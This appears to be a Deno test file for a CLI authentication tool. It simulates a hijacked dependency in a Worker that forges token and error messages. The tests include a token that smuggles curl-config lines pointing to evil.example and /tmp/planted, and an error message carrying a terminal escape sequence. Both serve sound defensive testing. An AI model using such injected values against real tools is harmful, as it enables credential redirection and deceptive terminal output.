// A package that has been taken over answers a refresh itself, in place of the Worker: nothing of it comes out, and nothing goes into the file.
import { assertEquals, assertStringIncludes } from "@std/assert";
import { startCliSession } from "../support/cli_session.ts";
import { mapWith } from "../support/dying_package.ts";
import { expire } from "../support/expire.ts";

const WHOLE = ["--allow-env", "--allow-read", "--allow-write", "--allow-net", "--unstable-worker-options"];

/** Says this for every call that there may be, and lets nobody else say anything. */
function forging(message: object): string {
  return `const say = globalThis.postMessage.bind(globalThis);
  globalThis.postMessage = () => {};
  for (let id = 1; id < 20; id++) say(JSON.stringify({ ...${JSON.stringify(message)}, id }));`;
}

Deno.test("no command gives out a token of several lines that a package in the Worker has made up", async () => {
  await using session = await startCliSession();
  assertEquals((await session.signIn()).status, 0);
  expire(session.credentials);
  const before = session.file();
  const tokens = {
    access_token: "x\nurl = http://evil.example\noutput = /tmp/planted",
    token_type: "Bearer",
    refresh_token: "r",
    expires_in: 3600,
  };
  const { token_endpoint: tokenEndpoint } = before["fief_auth"] as { token_endpoint: string };
  const value = { tokens, userinfo: null, clockOffset: 0, tokenEndpoint };
  const importMap = await mapWith(session.directory, forging({ type: "answer", value }));
  const setup = { importMap, flags: [...WHOLE, "--no-check", "--no-lock"] };
  for (const args of [["credential", "curl", session.api.origin], ["token"], ["token", "--header"]]) {
    const { status, stdout, stderr } = await session.run(args, setup);
    assertEquals([status, stdout], [5, ""], stderr);
    assertStringIncludes(stderr, "fief-auth: Expected tokens from the part of the program that speaks with the server");
    assertEquals(stderr.includes("evil"), false, stderr);
  }
  assertEquals(session.file()["tokens"], before["tokens"]);
  // The genuine program goes on with it.
  assertEquals((await session.run(["token"])).status, 0);
});

Deno.test("a failure that a package in the Worker has made up is one line without control characters", async () => {
  await using session = await startCliSession();
  assertEquals((await session.signIn()).status, 0);
  expire(session.credentials);
  const text = "It failed\x1b]0;evil\x07\nfief-auth: All is well";
  const error = { name: "FiefError", code: "provider_answer_invalid", message: text, hint: text };
  const importMap = await mapWith(session.directory, forging({ type: "failure", error }));
  const { stderr } = await session.run(["token"], { importMap, flags: [...WHOLE, "--no-check", "--no-lock"] });
  assertStringIncludes(stderr, "fief-auth: It failed ]0;evil fief-auth: All is well\n");
  assertEquals(/(?!\n)\p{C}/u.test(stderr), false, JSON.stringify(stderr));
});
